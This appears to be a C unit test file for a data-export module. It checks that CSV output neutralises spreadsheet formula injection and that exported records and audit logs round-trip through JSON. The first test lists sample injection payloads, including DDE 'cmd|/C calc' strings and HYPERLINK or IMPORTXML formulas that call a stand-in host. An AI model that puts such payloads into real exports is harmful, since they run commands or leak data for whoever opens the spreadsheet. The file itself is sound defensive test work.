/* SPDX-License-Identifier: Apache-2.0 */
/* Exports in their forms, and the guard of spreadsheets. Both engines. */
#include "base/json.h"
#include "core/export.h"
#include "import_kit.h"
#include "store/store_ledger.h"

static struct err e;

/* How a spreadsheet reads one field of a CSV: without its quotes. */
static const char *as_cell(const char *field, char buf[128])
{
	char *out = buf;
	bool quoted = *field == '"';

	for (field += quoted; *field && !(quoted && *field == '"' && field[1] != '"'); field++) {
		if (quoted && *field == '"')
			field++;
		*out++ = *field;
	}
	*out = 0;
	return buf;
}

START_TEST(t19_thirty_cells_are_none_that_a_spreadsheet_would_run)
{
	static const char *const cells[] = {
		"=1+1",
		"=cmd|' /C calc'!A0",
		"=HYPERLINK(\"http://x.example\",\"y\")",
		"+1+1",
		"+cmd",
		"-1+1",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)",
		"@x",
		"\t=1+1",
		"\tx",
		"\r=1+1",
		"\rx",
		"=\"a\"&\"b\"",
		"=A1,B1",
		"=1;2",
		"='x'",
		"+",
		"-",
		"@",
		"=",
		"\t",
		"\r",
		"=\n1",
		"-\"quoted\"",
		"'=1+1",
		"'+x",
		"''=1",
		"=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
		"@\xC3\xA9",
	};

	(void)_i;
	ck_assert_uint_eq(sizeof cells / sizeof *cells, 30);
	for (size_t i = 0; i < sizeof cells / sizeof *cells; i++) {
		STR(out, 1024);
		char cell[128];

		csv_field(&out, cells[i]);
		as_cell(str_c(&out), cell);
		ck_assert_msg(!strchr("=+-@\t\r", *cell), "cell %zu runs: %s", i, cell);
		ck_assert_msg(text_is_guarded(cell) == (cell[0] == '\'' && strcmp(cell, cells[i])),
			      "cell %zu", i);
		ck_assert_str_eq(cell + text_is_guarded(cell), cells[i]); /* and comes back as it was */
	}
	/* What is no formula is not touched. */
	for (const char *const *p = (const char *const[]){ "", "x", "1+1", "a=b", "'x", "''", "0-1", NULL };
	     *p; p++) {
		STR(out, 64);

		csv_field(&out, *p);
		ck_assert_str_eq(str_c(&out), *p);
	}
}
END_TEST

static struct db *with_statements(int engine)
{
	struct db *db = fresh_store(engine);
	OWN(import_report_free) struct import_report *a = NULL, *b = NULL;
	STR(text, MIB);

	kit_csv(&text, KIT_VERSION, 12, NULL, 0);
	ck_ok(kit_import(db, &text, false, &a, &e));
	ck_ok(kit_statements(db,
			     "entry,kind,bases,source,author,stated_on,confirmed_on,excerpt,reference\n"
			     "000002,bases,000001,secas,X,2026-01-01,,\"a, \"\"b\"\"\n2\",'=1+1\n"
			     "000003,any,,manufacturer,Y,,,''=2,\n",
			     NULL, &b, &e));
	return db;
}

START_TEST(statements_leave_as_objects_and_come_back_without_a_change)
{
	OWN(db_close) struct db *db = with_statements(_i);
	OWN(import_report_free) struct import_report *r = NULL;
	STR(csv, MIB);
	STR(out, MIB);

	ck_ok(export_statements(db, 0, &csv, &e));
	ck_ok(export_convert(&csv, EXPORT_NDJSON, 2, &out, &e));
	ck_assert_ptr_nonnull(strstr(str_c(&out), "\"reference\":\"=1+1\""));
	ck_assert_ptr_nonnull(strstr(str_c(&out), "\"excerpt\":\"a, \\\"b\\\"\\n2\""));
	ck_ok(kit_statements(db, str_c(&out), NULL, &r, &e));
	ck_assert_int_eq(r->state, IMPORT_UNCHANGED);
}
END_TEST

START_TEST(the_fir_as_one_object_has_a_row_for_each_entry)
{
	OWN(db_close) struct db *db = with_statements(_i);
	OWN(json_free) struct json *j = NULL;
	STR(csv, MIB);
	STR(out, MIB);

	ck_ok(export_fir(db, 0, KIT_NOW, &csv, &e));
	ck_ok(export_convert(&csv, EXPORT_JSON, 2, &out, &e));
	ck_ok(json_parse(str_c(&out), out.len, &j, &e));
	ck_assert_int_eq(json_int(json_get(j, "revision"), 0), 2);
	ck_assert_uint_eq(json_len(json_get(j, "rows")), 12);
	ck_assert_str_eq(json_text(json_get(json_at(json_get(j, "rows"), 1), "Firmware Upgrade Path")),
			 "000001");
	ck_assert_str_eq(json_text(json_get(json_at(json_get(j, "rows"), 1), "Reference")), "=1+1");
	ck_assert_ptr_null(json_get(json_at(json_get(j, "rows"), 4), "Reference"));
}
END_TEST

START_TEST(t19_the_audit_chain_leaves_in_pieces_and_guarded)
{
	OWN(db_close) struct db *db = with_statements(_i);
	struct actor who = { "user:x", "=1+1", KIT_NOW };
	STR(out, MIB);
	int64_t last = 0, after = -1;
	int pieces = 0;
	TX(tx);

	ck_ok(tx_begin(&tx, db, true, &e));
	ck_ok(audit_add(db, &who, "test-it", "a,b", NULL, NULL, 0, NULL, &e));
	ck_ok(tx_keep(&tx, &e));
	for (; last != after; pieces++) {
		after = last;
		ck_ok(export_audit_page(db, after, 1, &out, &last, &e));
	}
	ck_assert_int_eq(pieces, 4);
	ck_assert_ptr_nonnull(strstr(str_c(&out), ",user:x,'=1+1,test-it,\"a,b\",,,,"));
	ck_assert(!strncmp(str_c(&out), "seq,at,who,why,", 15));
}
END_TEST

int main(void)
{
	const TTest *const all[] = {
		t19_thirty_cells_are_none_that_a_spreadsheet_would_run,
		statements_leave_as_objects_and_come_back_without_a_change,
		the_fir_as_one_object_has_a_row_for_each_entry,
		t19_the_audit_chain_leaves_in_pieces_and_guarded,
	};

	return STORES_RUN("exports", all, 60);
}
